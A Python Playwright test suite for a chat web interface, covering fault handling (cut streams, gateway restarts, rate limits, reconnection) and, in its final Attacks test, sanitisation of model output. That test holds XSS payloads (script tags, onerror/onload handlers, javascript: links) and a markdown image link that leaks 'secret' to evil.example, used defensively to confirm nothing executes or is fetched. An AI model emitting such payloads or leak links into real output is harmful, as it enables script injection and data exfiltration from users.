"""Connections that are cut, a gateway that restarts, refuses or is away; other devices."""

import random
import threading
import unittest

from browser import PageTest, expect, hold
from stand_in_data import LATER, SAMPLE, TEXT


class Faults(PageTest):
    def test_cuts_at_random_bytes_lose_and_double_nothing(self):
        reference = None
        for seed in range(12):
            pick = random.Random(seed)
            self.gateway.cuts = [pick.randrange(0, 4000) for _ in range(pick.randrange(0, 6))] if seed else []
            self.gateway.step = pick.randrange(3, 40)
            context, page = self.open()
            self.ask(f"Cut {seed}", page)
            self.answered(page)
            shown = page.locator(".prose").evaluate("e => e.innerHTML")
            reference = reference or shown
            self.assertEqual(shown, reference, f"seed {seed}")
            context.close()

    def test_reload_and_another_device_go_on_with_the_same_answer(self):
        self.gateway.script = hold(SAMPLE, 200)
        self.ask("Going on")
        expect(self.page.locator(".prose")).to_contain_text("Neap tides")
        self.page.reload()
        expect(self.page.locator(".prose")).to_contain_text("Neap tides")
        _, other = self.open(self.page.url.split("/", 3)[3])
        expect(other.locator(".prose")).to_contain_text("Neap tides")
        next(iter(self.gateway.runs.values())).released.set()
        self.answered()
        self.answered(other)
        self.assertEqual(self.answer_text(), self.answer_text(other))
        self.assertEqual(len(self.gateway.runs), 1)

    def test_a_restart_leaves_the_text_and_continue_finishes_it(self):
        self.gateway.script = hold(SAMPLE, 200)
        self.ask("Interrupted")
        expect(self.page.locator(".prose")).to_contain_text("Neap tides")
        self.gateway.restart()
        expect(self.page.get_by_text("The gateway restarted")).to_be_visible()
        self.page.reload()
        run = next(iter(self.gateway.runs.values()))
        run.released.set()
        self.page.get_by_role("button", name="Continue").click()
        expect(self.page.locator(".prose")).to_contain_text("The gauge’s float stuck once")
        self.answered()
        self.assertEqual(self.answer_text().count("The highest tide"), 1)

    def test_a_busy_session_shows_the_other_answer_and_keeps_the_question(self):
        self.gateway.script = hold(SAMPLE, 100)
        self.ask("First")
        expect(self.page.locator(".prose")).to_contain_text("highest tide")
        _, other = self.open()
        session = self.page.url.split("#/chat/")[1]
        self.gateway.messages[session]
        other.route("**/api/chat/runs?*", lambda route: route.fulfill(json={"runs": []}))
        other.goto(self.page.url)
        expect(other.locator(".question-text")).to_have_text("First")
        self.ask("Second", other)
        expect(other.get_by_text("An answer is still being written")).to_be_visible()
        expect(other.get_by_label("Your question")).to_have_value("Second")
        expect(other.locator(".prose")).to_contain_text("highest tide")

    def test_too_many_runs_says_when_to_try_again(self):
        self.gateway.fail("/api/chat/runs", 429, "too_many_runs", "There are too many answers in progress.", retry_after=7)
        self.ask("One too many")
        expect(self.page.get_by_text("Try again in 7 s.")).to_be_visible()
        expect(self.page.get_by_label("Your question")).to_have_value("One too many")
        self.page.get_by_role("alert").get_by_role("button", name="Try again").click()
        self.answered()
        expect(self.page.get_by_label("Your question")).to_have_value("")

    def test_no_gateway_keeps_the_question(self):
        self.loaded("chat/conversation.js")
        self.gateway.is_down = True
        self.ask("Is anyone there?")
        expect(self.page.get_by_text("It is kept below")).to_be_visible()
        expect(self.page.get_by_label("Your question")).to_have_value("Is anyone there?")
        self.gateway.is_down = False
        self.page.get_by_role("alert").get_by_role("button", name="Try again").click()
        self.answered()
        self.assertEqual(len(self.gateway.runs), 1)

    def attached(self):
        return sum(path.endswith("/events") for _, path in self.gateway.requests)

    def test_silence_attaches_again(self):
        _, page = self.open()
        page.clock.install()
        page.goto(self.gateway.url + "#/chat")
        self.gateway.is_silent = True
        self.gateway.script = hold(SAMPLE, 100)
        self.ask("Silence", page)
        expect(page.locator(".prose")).to_contain_text("highest tide")
        before = self.attached()
        page.clock.fast_forward(20_000)
        page.wait_for_timeout(300)
        self.assertEqual(self.attached(), before)
        page.clock.fast_forward(7000)
        page.clock.run_for(2000)
        self.until(lambda: self.attached() > before)
        next(iter(self.gateway.runs.values())).released.set()
        # Frames come with this clock.
        for _ in range(400):
            page.clock.run_for(100)
            if "The gauge’s float stuck once" in page.locator(".prose").inner_text():
                break
        expect(page.locator(".prose")).to_contain_text("The gauge’s float stuck once")
        self.assertEqual(page.locator(".prose").inner_text().count("The highest tide"), 1)

    def test_the_network_coming_back_attaches_at_once(self):
        self.gateway.script = hold(SAMPLE, 100)
        self.ask("Back")
        expect(self.page.locator(".prose")).to_contain_text("highest tide")
        before = self.attached()
        self.page.evaluate("void dispatchEvent(new Event('online'))")
        self.until(lambda: self.attached() > before)
        next(iter(self.gateway.runs.values())).released.set()
        self.answered()
        self.assertEqual(self.answer_text().count("The highest tide"), 1)

    def test_text_that_is_missing_is_fetched(self):
        gap = "id: 9\nevent: delta\ndata: {\"at\": 5000, \"text\": \"x\"}\n\n"
        self.page.route("**/events", lambda route: route.fulfill(content_type="text/event-stream", body=gap), times=3)
        self.ask("Gaps")
        expect(self.page.locator(".prose")).to_contain_text("The gauge’s float stuck once")
        self.answered()
        self.assertEqual(self.answer_text().count("The highest tide"), 1)

    def test_leaving_the_chat_stops_nothing(self):
        self.gateway.script = hold(SAMPLE, 100)
        self.ask("Leaving")
        expect(self.page.locator(".prose")).to_contain_text("highest tide")
        self.page.get_by_role("link", name="You", exact=True).click()
        expect(self.page.get_by_role("heading", level=1)).to_have_text("You")
        next(iter(self.gateway.runs.values())).released.set()
        self.page.go_back()
        expect(self.page.locator(".prose")).to_contain_text("The gauge’s float stuck once")
        self.until(lambda: next(iter(self.gateway.runs.values())).state == "done")
        self.assertEqual([path for method, path in self.gateway.requests if method == "DELETE"], [])

    def test_a_lost_reply_starts_no_second_run(self):
        self.page.route("**/api/chat/runs", lambda route: self.once(route), times=1)
        self.gateway.script = LATER
        self.ask("Once only")
        self.answered()
        self.assertEqual(len(self.gateway.runs), 1)

    @staticmethod
    def once(route):
        route.fetch()
        route.abort("connectionreset")

    def test_a_failed_answer_says_why_and_can_be_asked_again(self):
        self.gateway.script = {**LATER, "fail": "The model is not there."}
        self.ask("Fails")
        expect(self.page.get_by_text("The model is not there.")).to_be_visible()
        self.gateway.script = LATER
        self.page.locator(".notice").get_by_role("button", name="Ask again").click()
        expect(self.page.get_by_label("Branch 2 of 2")).to_be_visible()
        self.answered()
        expect(self.page.get_by_text("The model is not there.")).to_have_count(0)
        self.assertIn("two weeks", self.answer_text())

    def test_keyword_fallback_and_private_notes_are_said(self):
        self.gateway.script = {**LATER, "search": {"query": "x", "rewritten": True, "source": "keyword", "fallback_reason": "no embedding model"},
                               "withheld": [3], "left_out": [{"part": "history", "count": 4}]}
        self.ask("Words only")
        self.answered()
        expect(self.page.get_by_text("Found by words only").first).to_be_visible()
        expect(self.page.get_by_text("1 private note was left out.").first).to_be_visible()
        self.page.get_by_role("button", name="2 passages").click()
        expect(self.page.get_by_text("Earlier messages (4)")).to_be_visible()

    def test_queue_place_and_tools_are_shown(self):
        queued, loading = threading.Event(), threading.Event()
        self.gateway.script = {**hold(LATER, 5), "states": [("queued", 0, 3, queued), ("loading_model", 0.2, None, loading), ("searching", 0.3, None, 0.01)],
                               "tools": [{"id": "t1", "name": "search_notes", "arguments": {}, "state": "done", "summary": "3 notes", "bytes": 900}]}
        self.ask("Queue")
        expect(self.page.get_by_text("Queued: place 3").first).to_be_visible()
        queued.set()
        expect(self.page.locator(".state-words")).to_have_text("Loading the model")
        loading.set()
        expect(self.page.locator(".tools")).to_contain_text("search_notes done – 3 notes")

    def test_a_missing_session_and_one_that_does_not_load(self):
        self.page.goto(self.gateway.url + "#/chat/chat-nothing")
        expect(self.page.get_by_text("This chat no longer exists.")).to_be_visible()
        self.gateway.fail("/api/sessions/chat-garden/messages", 500, error="The disk is full.")
        self.page.goto(self.gateway.url + "#/chat/chat-garden")
        expect(self.page.get_by_text("The disk is full.")).to_be_visible()
        self.page.get_by_role("alert").get_by_role("button", name="Try again").click()
        expect(self.page.get_by_text("Ferns and hostas")).to_be_visible()


class Attacks(PageTest):
    def test_model_output_runs_nothing_and_fetches_nothing(self):
        outside = []
        self.page.on("request", lambda request: not request.url.startswith(self.gateway.url) and outside.append(request.url))
        self.gateway.script = {**LATER, "text": "<img src=x onerror=alert(1)> <script>alert(2)</script>\n\n![leak](https://evil.example/?q=secret) [x](javascript:alert(3)) "
                               "[y](data:text/html,hi) <https://evil.example/a> <svg onload=alert(4)>\n\n```html\n<iframe src=https://evil.example>\n```\n"}
        self.gateway.script["passages"] = [dict(LATER["passages"][0], title="<img src=x onerror=alert(5)>", text="<b>bold</b>")]
        self.page.on("dialog", lambda dialog: self.complaints.append(dialog.message))
        self.ask("<script>alert(6)</script>")
        self.answered()
        self.page.get_by_role("button", name="1 passage").click()
        expect(self.page.locator(".passage h3")).to_contain_text("<img")
        self.assertEqual(self.page.locator("main img, main script, main iframe, main b").count(), 0)
        links = self.page.locator(".prose a").evaluate_all("list => list.map(a => [a.getAttribute('href'), a.rel])")
        self.assertEqual([href for href, _ in links], ["https://evil.example/?q=secret", "https://evil.example/a"])
        self.assertTrue(all("noopener" in rel and "noreferrer" in rel for _, rel in links))
        self.assertEqual(outside, [])


if __name__ == "__main__":
    unittest.main()
